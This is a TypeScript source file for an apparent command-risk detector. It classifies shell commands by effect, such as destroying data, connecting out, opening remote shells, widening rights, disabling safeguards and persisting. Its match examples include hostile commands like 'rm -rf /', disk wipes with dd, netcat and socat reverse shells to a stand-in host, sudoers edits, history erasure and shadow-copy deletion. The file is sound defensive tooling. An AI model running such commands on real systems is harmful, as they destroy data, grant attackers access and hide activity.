import type { Effect } from '@whetstone/contracts';
import type { Executed } from '../actions/executed.js';

/** A pattern of actions with an effect, an example that must match and one that must not. */
export interface EffectRow {
  effect: Effect;
  pattern: string;
  yes: string;
  no: string;
}

export type EffectTable = {
  readonly [effect in Effect]?: readonly (readonly [pattern: string, yes: string, no: string])[];
};

export function rowsOf(table: EffectTable): EffectRow[] {
  return Object.entries(table).flatMap(([effect, rows]) =>
    rows.map(([pattern, yes, no]) => ({ effect: effect as Effect, pattern, yes, no })),
  );
}

/**
 * Effects of commands. `pattern` starts with the programs, followed in any order by: `sub|sub`: the next operand is one of
 * these; `-x|--long`: has one of these options; `@class`, `>@class`, `<@class`: any operand, the last, or one before the last is
 * of this class; `~text`: the words contain this text; `=word`: one word equals this; `!…`: negates any of these.
 */
export const commandRows: readonly EffectRow[] = rowsOf({
  // Destroys more than it names.
  destroys_all: [
    ['rm|rmdir|shred|unlink @root', 'rm -rf /', 'rm -rf /tmp/build'],
    ['rm --no-preserve-root', 'rm -rf --no-preserve-root /srv/x', 'rm -rf /srv/x'],
    ['rm|shred -r|-R|--recursive @here', 'rm -rf *', 'rm *'],
    ['chmod|chown|chgrp -R|--recursive @root', 'chown -R bob /', 'chown -R bob /srv/app'],
    ['mv <@root', 'mv /* /tmp/x', 'mv /srv/a /'],
    ['dd ~of=/dev/', 'dd if=/dev/zero of=/dev/sda', 'dd if=disk.img of=copy.img'],
    ['mkfs|wipefs|fdisk|parted !-l @device', 'wipefs -a /dev/sdb', 'fdisk -l disk.img'],
    ['mkfs.*', 'mkfs.ext4 /dev/sdb1', 'ls mkfs.ext4'],
    ['tee|cp|shred|truncate >@device', 'cp x.img /dev/sda', 'cp x.img /tmp/sda'],
    ['kill >@everyone', 'kill -9 -1', 'kill -1 4711'],
    ['kubectl|oc delete ns|namespace|namespaces|node|nodes', 'kubectl delete ns a', 'kubectl delete pod a'],
    ['kubectl|oc delete --all|-A|--all-namespaces', 'kubectl delete pods --all', 'kubectl delete pod a'],
    ['docker|podman system|volume|image prune -a|--all|--volumes', 'docker system prune -a', 'docker system df'],
    ['terraform|tofu|pulumi destroy', 'terraform destroy -auto-approve', 'terraform plan -destroy'],
    ['aws s3 rb|rm --recursive|--force @bucket', 'aws s3 rm s3://a --recursive', 'aws s3 rm s3://a/b.gz'],
    ['gsutil rm|rb -r|-R @bucket', 'gsutil -m rm -r gs://logs', 'gsutil rm gs://logs/a.gz'],
    ['gcloud projects delete', 'gcloud projects delete shop', 'gcloud projects list'],
    ['az group delete', 'az group delete -n shop', 'az group list'],
    ['redis-cli flushall|flushdb', 'redis-cli FLUSHALL', 'redis-cli get flushall'],
    ['dropdb', 'dropdb shop', 'createdb shop'],
    ['zpool|zfs destroy', 'zpool destroy tank', 'zpool status tank'],
    ['crontab -r', 'crontab -r', 'crontab -l'],
    ['format', 'format c:', 'echo format'],
    ['rd|del|remove-item @root', 'Remove-Item -Recurse -Force C:\\', 'Remove-Item build.log'],
  ],
  // Destroys what it names.
  destroys: [
    ['rm|rmdir|shred|unlink', 'rm notes.txt', 'ls notes.txt'],
    ['del|erase|rd|remove-item', 'del notes.txt', 'dir notes.txt'],
    ['find|fd -delete', "find . -name '*.tmp' -delete", "find . -name '*.tmp'"],
    ['truncate', 'truncate -s 0 app.log', 'cat app.log'],
    ['kill|pkill|killall|taskkill|stop-process !-l|-L !=-0', 'pkill nginx', 'kill -0 4711'],
    ['rsync ~--delete|~--remove-source-files', 'rsync -a --delete a/ b/', 'rsync -a a/ b/'],
    ['mv >@null', 'mv a /dev/null', 'mv a b'],
    ['curl =delete|-xdelete', 'curl -X DELETE http://localhost/a', 'curl -X GET http://localhost/a'],
    ['git reset --hard', 'git reset --hard HEAD~1', 'git reset --soft HEAD~1'],
    ['git branch|tag -D|-d|--delete', 'git branch -D old', 'git branch -a'],
    ['git push --delete|-d|--mirror|--prune', 'git push origin --delete old', 'git push origin main'],
    ['git stash clear', 'git stash clear', 'git stash list'],
    ['git filter-branch|filter-repo', 'git filter-repo --path x', 'git mv a b'],
    ['git checkout|restore @here', 'git checkout .', 'git checkout main'],
    ['git reflog expire', 'git reflog expire --expire=now --all', 'git reflog'],
    ['dpkg|rpm -r|-P|--purge|-e', 'rpm -e httpd', 'rpm -qa'],
    ['pacman -R', 'pacman -R vim', 'pacman -Qs vim'],
    ['userdel|deluser|groupdel', 'userdel bob', 'id bob'],
    ['lvremove|vgremove', 'lvremove vg0/data', 'lvs'],
    ['shutdown|reboot|halt|poweroff', 'reboot', 'uptime'],
    ['terraform|tofu ~-replace=', 'terraform apply -replace=a.b', 'terraform apply -target=a.b'],
    ['vssadmin|wbadmin|diskshadow delete', 'vssadmin delete shadows /all', 'vssadmin list shadows'],
  ],
  // Reaches another machine.
  connects: [
    ['curl|wget|http|https|xh|aria2c|lynx @elsewhere', 'curl https://example.com', 'curl http://localhost/a'],
    ['logger -n|--server', 'logger -n a.example x', 'logger x'],
    ['openssl s_client', 'openssl s_client -connect a.example:443', 'openssl x509 -in a.pem'],
    ['nc|ncat|netcat|telnet|socat|ftp|sftp|lftp|tftp|nmap|mail|mailx|sendmail|mutt', 'nc a.example 80', 'echo nc'],
    ['ssh|mosh|scp|sshfs|ssh-copy-id', 'ssh web1 uptime', 'ssh-keygen -l -f key.pub'],
    ['rsync|rclone @remote', 'rsync -a out/ bob@web1:/srv/', 'rsync -a out/ /srv/'],
    ['git clone|fetch|pull|push|ls-remote', 'git push origin main', 'git log'],
    ['git submodule|remote update', 'git submodule update --init', 'git submodule status'],
    ['ping|dig|nslookup|host|traceroute|whois @host', 'dig example.com', 'dig -x 127.0.0.1'],
    ['aws s3|s3api cp|sync|mv|put-object', 'aws s3 cp dump.sql s3://out/', 'aws s3 ls'],
    ['gsutil|azcopy cp|rsync|copy|mv', 'gsutil cp dump.sql gs://out/', 'gsutil ls gs://out'],
    ['docker|podman push|pull|login', 'docker push shop/web', 'docker ps'],
    ['redis-cli slaveof|replicaof @host', 'redis-cli SLAVEOF a.example 6379', 'redis-cli INFO replication'],
    ['npm|yarn|pnpm|cargo|twine|gem|helm publish|upload|push', 'npm publish', 'npm ls'],
    ['* @socket', 'cat x | tee /dev/tcp/example.com/80', 'cat x | tee /dev/null'],
    ['sed|perl -i|--in-place >@resolver', "sed -i 's/a/b/' /etc/hosts", "sed 's/a/b/' /etc/hosts"],
    ['tee|cp|mv|install|ln|rsync >@resolver', 'echo 10.0.0.5 db | tee -a /etc/hosts', 'cp /etc/hosts x'],
    ['* @address', 'npm config set registry https://a.example', 'npm config get registry'],
    ['git ~.insteadof', 'git config url.git://a/.insteadOf https://b/', 'git config user.name ann'],
    ['iwr|irm|invoke-webrequest|invoke-restmethod|certutil|bitsadmin @elsewhere', 'iwr https://a.b', 'iwr localhost'],
  ],
  // Runs code from elsewhere, or code with rights over the machine.
  runs_fetched: [
    ['npx|uvx|bunx|pnpx', 'npx some-helper@latest', 'npm run build'],
    ['pipx run', 'pipx run cowsay', 'pipx list'],
    ['yarn|pnpm|bun|npm dlx|create|exec|x', 'yarn dlx cowsay', 'npm run build'],
    ['uv tool run', 'uv tool run cowsay', 'uv run pytest'],
    ['deno run|install|eval @url', 'deno run https://example.com/x.ts', 'deno run main.ts'],
    [
      'pip|pip3|npm|gem|brew|poetry|pnpm|yarn|bun|cargo install|add|i @url',
      'pip install git+https://a.b',
      'pip install x',
    ],
    ['uv pip|add @url', 'uv pip install git+https://a.b', 'uv pip install x'],
    ['python|python3 -m pip install @url', 'python3 -m pip install git+https://a.b', 'python3 -m pip install x'],
    ['cargo install --git', 'cargo install --git https://example.com/x', 'cargo install ripgrep'],
    [
      'pip|pip3|uv|poetry install|add|pip -i|--index-url|--extra-index-url|--find-links',
      'pip install -i $A x',
      'pip install x',
    ],
    ['npm install|i|add --registry', 'npm install --registry $A x', 'npm install x'],
    ['go run ~@', 'go run example.com/x/cmd@latest', 'go run main.go'],
    ['kubectl|oc apply|create|replace -f|--filename ~://', 'kubectl apply -f https://a.b', 'kubectl apply -f a'],
    ['docker|podman run|create --privileged|--pid|--cap-add|--device', 'docker run --privileged x', 'docker run x'],
    ['docker|podman run|create @hostmount', 'docker run -v /:/host tool', 'docker run -v ./data:/data tool'],
    ['powershell|pwsh =-enc|-e|-ec|-encodedcommand', 'powershell -Enc SQBFAFgA', 'pwsh -File x.ps1'],
    ['mshta|regsvr32|rundll32 ~://', 'mshta http://example.com/x.hta', 'rundll32 x.dll'],
    ['insmod|modprobe', 'insmod ./x.ko', 'lsmod'],
  ],
  // Remote shells.
  opens_shell: [
    ['nc|ncat|netcat -e|-c|--exec|--sh-exec', 'nc -e /bin/sh a.example 4444', 'nc -z a.example 80'],
    ['socat ~exec:|~system:|~pty', 'socat tcp:a.example:4444 exec:/bin/sh', 'socat - tcp:a.example:80'],
    ['ssh|autossh -R|-w', 'ssh -R 9000:localhost:22 bob@a.example', 'ssh bob@a.example uptime'],
    ['ngrok|cloudflared|frpc|chisel|localtunnel|bore|tmate|ttyd|gotty', 'ngrok tcp 22', 'man ngrok'],
    ['msfvenom|msfconsole', 'msfconsole -q', 'man msfconsole'],
    ['telnetd|sshd|dropbear', 'sshd -p 2222', 'ssh -V'],
  ],
  installs: [
    ['apt|apt-get|yum|dnf|zypper|apk|pkg|snap|flatpak install|add|upgrade|dist-upgrade', 'apt install jq', 'apt list'],
    ['brew|port|choco|winget install|upgrade', 'brew install jq', 'brew list'],
    ['pip|pip3|pipx|gem|cargo|go|conda install|add|update|upgrade', 'cargo install ripgrep', 'cargo build'],
    ['npm|pnpm|yarn|bun install|i|ci|add|update|upgrade', 'npm install left-pad', 'npm test'],
    ['poetry|composer|bundle|helm|uv install|add|require|update|upgrade|sync', 'uv add httpx', 'uv run pytest'],
    ['yarn|bundle|poetry @none', 'yarn', 'yarn test'],
    ['dotnet add|tool', 'dotnet add package x', 'dotnet build'],
    ['uv pip|tool install|sync', 'uv pip install x', 'uv pip list'],
    ['python|python3 -m pip install', 'python3 -m pip install x', 'python3 -m pip list'],
    ['go get', 'go get example.com/x', 'go env'],
    ['dpkg|rpm -i|-U|--install', 'dpkg -i x.deb', 'dpkg -l'],
    ['pacman -S|-U', 'pacman -S vim', 'pacman -Q'],
    ['make|ninja|cmake install', 'make install', 'make test'],
    ['code|codium|code-insiders --install-extension', 'code --install-extension a.b', 'code --list-extensions'],
    ['* plugin|plugins|extension|extensions|krew install|add', 'gh extension install a/b', 'gh extension list'],
    [
      'pipenv|pdm|mamba|micromamba|asdf|nvm|luarocks|cpanm|ansible-galaxy install|add',
      'pipenv install x',
      'pipenv graph',
    ],
    [
      'jupyter labextension|nbextension|serverextension install|enable',
      'jupyter labextension install x',
      'jupyter labextension list',
    ],
    ['add-apt-repository|apt-add-repository', 'add-apt-repository ppa:a/b', 'apt-cache policy'],
  ],
  widens_rights: [
    ['chmod @wide', 'chmod 777 run.sh', 'chmod 644 run.sh'],
    ['chown|chgrp @rootowner', 'chown root:root x', 'chown bob /root/x'],
    ['visudo|setcap|setfacl|passwd|chpasswd', 'setcap cap_net_raw+ep x', 'getcap x'],
    ['usermod|gpasswd|adduser|useradd @powerful', 'usermod -aG docker bob', 'usermod -s /bin/sh bob'],
    ['kubectl|oc create clusterrolebinding|rolebinding|clusterrole', 'oc create rolebinding x', 'oc create job x'],
    [
      'aws iam ~attach-|~put-|~create-|~add-user-|~update-assume-',
      'aws iam attach-role-policy x',
      'aws iam list-users',
    ],
    ['gcloud ~add-iam-policy-binding', 'gcloud projects add-iam-policy-binding shop', 'gcloud projects list'],
    ['az role assignment create', 'az role assignment create --role Owner', 'az role assignment list'],
    ['git config ~safe.directory', "git config --global --add safe.directory '*'", 'git config user.name bob'],
    ['sed -i >@rights', "sed -i 's/a/b/' /etc/sudoers", "sed -n '1p' /etc/passwd"],
    ['tee|cp|mv|install|ln >@rights', "echo 'bob ALL=(ALL) ALL' | tee -a /etc/sudoers", 'cat /etc/sudoers'],
    ['net user|localgroup ~/add', 'net user bob pw /add', 'net user bob'],
    ['aws ec2 authorize-security-group-ingress', 'aws ec2 authorize-security-group-ingress x', 'aws ec2 describe-x'],
    [
      'gsutil|gcloud ~allusers|~allauthenticatedusers',
      'gsutil iam ch allUsers:objectViewer gs://a',
      'gsutil iam get gs://a',
    ],
    [
      'iptables|ip6tables ~0.0.0.0/0|~::/0 =accept',
      'iptables -A INPUT -s 0.0.0.0/0 -j ACCEPT',
      'iptables -A INPUT -s 0.0.0.0/0 -j DROP',
    ],
    ['ufw allow from any', 'ufw allow from any to any port 22', 'ufw allow from 10.0.0.1'],
    ['icacls ~/grant', 'icacls x /grant Everyone:F', 'icacls x'],
  ],
  disables_safeguard: [
    ['* @unguarded', 'kubectl --insecure-skip-tls-verify get pods', 'git clone --no-checkout x'],
    ['ufw default allow', 'ufw default allow incoming', 'ufw default deny incoming'],
    ['ufw disable|reset', 'ufw disable', 'ufw status'],
    ['nft flush', 'nft flush ruleset', 'nft list ruleset'],
    ['iptables|ip6tables -F|--flush|-X|-P', 'iptables -F', 'iptables -L'],
    ['setenforce =0|permissive', 'setenforce 0', 'getenforce'],
    ['systemctl|service|launchctl stop|disable|mask|unload|kill @guard', 'systemctl stop ufw', 'systemctl status ufw'],
    ['service ~stop @guard', 'service firewalld stop', 'service firewalld status'],
    ['pkill|killall|taskkill @guard', 'pkill auditd', 'pkill nginx'],
    ['auditctl -D', 'auditctl -D', 'auditctl -l'],
    ['auditctl -e =0', 'auditctl -e 0', 'auditctl -e 1'],
    [
      'aws ~stop-logging|~delete-trail|~delete-detector|~delete-flow-logs|~delete-public-access-block',
      'aws cloudtrail stop-logging --name a',
      'aws cloudtrail start-logging --name a',
    ],
    ['pip|pip3 config ~trusted-host', 'pip config set global.trusted-host a.example', 'pip config list'],
    ['redis-cli config set', "redis-cli CONFIG SET requirepass ''", 'redis-cli CONFIG GET requirepass'],
    ['aa-teardown|aa-disable|aa-complain', 'aa-disable nginx', 'aa-status'],
    ['git commit -n', 'git commit -n -m x', 'git commit -m x'],
    ['git push -f|--force|--force-with-lease', 'git push --force origin main', 'git push origin main'],
    ['git ~sslverify|~hookspath', 'git -c http.sslVerify=false fetch', 'git -c color.ui=false fetch'],
    ['curl -k', 'curl -k https://example.com', 'curl https://example.com'],
    ['ssh|scp|sftp|rsync ~stricthostkeychecking=no|~userknownhostsfile=', 'ssh -o StrictHostKeyChecking=no a', 'ssh a'],
    ['history -c|-d', 'history -c', 'history'],
    ['unset ~histfile|~histsize', 'unset HISTFILE', 'unset FOO'],
    ['set =+o =history', 'set +o history', 'set -o pipefail'],
    ['export ~histfile=/dev/null|~histsize=0', 'export HISTSIZE=0', 'export HISTSIZE=10'],
    [
      'export ~tls_reject_unauthorized=0|~git_ssl_no_verify|~pythonhttpsverify=0',
      'export GIT_SSL_NO_VERIFY=1',
      'export A=1',
    ],
    ['npm|yarn config set|delete ~strict-ssl|~ignore-scripts', 'npm config set strict-ssl no', 'npm config set a no'],
    ['netsh advfirewall|firewall ~off|~disable', 'netsh advfirewall set all state off', 'netsh advfirewall show all'],
    [
      'set-mppreference|add-mppreference|set-executionpolicy|bcdedit',
      'Set-ExecutionPolicy Bypass',
      'Get-ExecutionPolicy',
    ],
    ['chattr -i|-a', 'chattr -i x', 'lsattr x'],
    ['kubectl|oc delete networkpolicy', 'oc delete networkpolicy a', 'oc get networkpolicy'],
    ['kubectl|oc delete ~webhookconfiguration', 'oc delete mutatingwebhookconfiguration a', 'oc delete pod a'],
  ],
  // Stays active after the command ends.
  persists: [
    ['crontab !-l !-r', 'crontab jobs.txt', 'crontab -l'],
    ['systemd-run ~--on-', 'systemd-run --on-calendar=hourly x', 'systemd-run x'],
    ['at|batch !-l !-q', 'at now + 1 hour', 'at -l'],
    ['systemctl enable|reenable|link', 'systemctl enable web', 'systemctl status web'],
    ['launchctl load|bootstrap|enable', 'launchctl load x.plist', 'launchctl list'],
    ['update-rc.d', 'update-rc.d web defaults', 'ls update-rc.d'],
    ['schtasks /create|/change', 'schtasks /create /tn x /tr y', 'schtasks /query'],
    ['reg add ~\\run|~versionrun', 'reg add "HKCU\\Run" /v x', 'reg query "HKCU\\Run"'],
    ['tee|cp|mv|install|ln|touch|rsync|scp >@startup', 'cp a .git/hooks/pre-commit', 'cp .git/hooks/pre-commit /tmp/a'],
    ['sed -i @startup', "sed -i 's/a/b/' ~/.bashrc", "sed 's/a/b/' ~/.bashrc"],
    ['ssh-copy-id', 'ssh-copy-id bob@web1', 'ssh-keygen -l'],
    ['pm2 startup|save', 'pm2 startup', 'pm2 list'],
  ],
  // Programs that mostly read.
  changes: [
    ['curl ~--data|~--form|~--upload-file|~--json', 'curl --data x=1 http://localhost/a', 'curl http://localhost/a'],
    ['curl -d|-F|-T', 'curl -d x=1 http://localhost/a', 'curl http://localhost/a'],
    ['wget ~--post-', 'wget --post-data x=1 http://localhost/a', 'wget http://localhost/a'],
    ['curl =post|put|patch|-xpost|-xput|-xpatch', 'curl -X PUT http://localhost/a', 'curl -X GET http://localhost/a'],
    ['ip|route|ifconfig|arp =add|del|delete|set|flush|change|replace|up|down', 'ip link set eth0 down', 'ip addr show'],
    ['timedatectl|hostnamectl ~set-', 'hostnamectl set-hostname web', 'hostnamectl status'],
  ],
  // Runs hidden code.
  unreadable: [
    ['tar ~checkpoint-action|~--to-command|~--use-compress-program', 'tar cf a --to-command=sh b', 'tar cf a b'],
    ['* @anybodys', 'sh /tmp/x', 'sh x'],
    ['* @anybodys', '/tmp/x --all', 'ls /tmp/x'],
    ['* @anybodys', 'python3 /tmp/x.py', 'python3 -c 1 /tmp/x.py'],
    ['* @hidden', "man -P 'sh x.sh' ls", "grep 'sh x.sh' ls"],
    ['* @hidden', "awk 'BEGIN{system(1)}'", "awk '{print $1}' f"],
    ['* @hidden', 'sort --compress-program=/tmp/x a', 'sort --parallel=2 a'],
    ['* @hidden', 'gcc -fplugin=./x.so a.c', 'gcc -o a a.c'],
    ['* @hidden', "psql -c '\\! date'", "psql -c '\\dt'"],
    ['sed @sedexec', "sed '1e date' f", "sed 's/a/be/' f"],
    ['git @gitruns', "git -c alias.x='!date' x", 'git config --global alias.co checkout'],
    ['git ~ext::', "git clone 'ext::sh -c date'", 'git clone a'],
    ['ssh|scp|sftp|rsync ~proxycommand=|~localcommand=', "ssh -o ProxyCommand='nc x 22' web1", 'ssh -o User=bob web1'],
  ],
});

/** Variables that disable a safeguard or run code. */
export const assignmentRows: readonly EffectRow[] = rowsOf({
  disables_safeguard: [
    ['NODE_TLS_REJECT_UNAUTHORIZED=0', 'NODE_TLS_REJECT_UNAUTHORIZED=0 node x.js', 'NODE_ENV=test node x.js'],
    ['GIT_SSL_NO_VERIFY=', 'GIT_SSL_NO_VERIFY=1 git fetch', 'GIT_PAGER=cat git fetch'],
    ['PYTHONHTTPSVERIFY=0', 'PYTHONHTTPSVERIFY=0 python x.py', 'PYTHONPATH=. python x.py'],
    ['HISTFILE=', 'HISTFILE=/dev/null bash', 'HOME=/tmp bash'],
    ['HISTSIZE=0', 'HISTSIZE=0 bash', 'HISTSIZE=1000 bash'],
  ],
  unreadable: [
    ['LD_PRELOAD=', 'LD_PRELOAD=./x.so ls', 'LD_DEBUG=1 ls'],
    ['BASH_ENV=', 'BASH_ENV=x bash -c ls', 'LANG=C bash -c ls'],
    ['PROMPT_COMMAND=', "PROMPT_COMMAND='date'", "PS1='$'"],
  ],
});

/** Targets of redirections. */
export const redirectRows: readonly EffectRow[] = rowsOf({
  destroys_all: [['@device', 'cat x > /dev/sda', 'cat x > /tmp/sda']],
  connects: [
    ['@socket', 'echo x > /dev/tcp/example.com/80', 'echo x > /dev/null'],
    ['@resolver', "echo '10.0.0.5 db' >> /etc/hosts", "echo '10.0.0.5 db' >> hosts"],
  ],
  persists: [['@startup', 'echo x >> ~/.bashrc', 'echo x >> notes.txt']],
  widens_rights: [['@rights', 'echo x >> /etc/sudoers', 'echo x >> notes.txt']],
});

/** Effects found in one text, and the texts it passes on to be executed. */
export interface Findings {
  effects: ReadonlySet<Effect>;
  executed: readonly Executed[];
}

export interface FindingsBuilder extends Findings {
  executed: Executed[];
  add(effect: Effect): void;
}

export function createFindings(): FindingsBuilder {
  const effects = new Set<Effect>();
  return { effects, executed: [], add: (effect) => void effects.add(effect) };
}
